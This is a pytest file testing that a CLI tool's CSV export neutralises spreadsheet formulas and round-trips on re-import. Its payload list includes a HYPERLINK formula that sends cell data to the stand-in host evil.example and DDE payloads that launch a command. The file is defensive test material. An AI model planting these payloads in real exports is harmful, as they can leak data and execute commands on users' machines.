"""CSV export never hands a spreadsheet a formula, and re-imports what it wrote unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_neutralises_formulas_and_round_trips(  # type: ignore[no-untyped-def]
    run, tmp_path: Path, formula: str
) -> None:
    name = f"Name {formula.strip()}"
    assert run("client", "add", name, "--company", formula, "--industry", formula).code == 0
    assert run("contact", "add", "Name", "Tom", "--role", formula).code == 0
    exported = run("export", "--format", "csv").out
    rows = list(csv.DictReader(io.StringIO(exported)))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    stored = formula if not formula.startswith(("\t", "\r")) else formula.strip()
    assert rows[0]["company"] == "'" + stored and rows[1]["role"] == "'" + stored

    again = tmp_path / "again.db"
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")
    assert run("import", "clients", str(path), db=again).code == 0
    assert run("export", "--format", "csv", db=again).out == exported
